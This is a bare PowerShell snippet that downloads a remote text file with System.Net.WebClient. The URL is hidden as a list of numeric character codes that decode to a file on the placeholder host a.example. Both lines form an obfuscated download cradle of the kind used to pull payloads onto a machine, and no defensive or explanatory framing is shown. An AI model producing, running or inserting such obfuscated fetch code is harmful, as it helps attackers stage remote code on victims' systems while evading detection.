$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join (104,116,116,112,58,47,47,97,46,101,120,97,109,112,108,101,47,112,47,120,46,116,120,116 | %{[char]::ConvertFromUtf32($_)})))
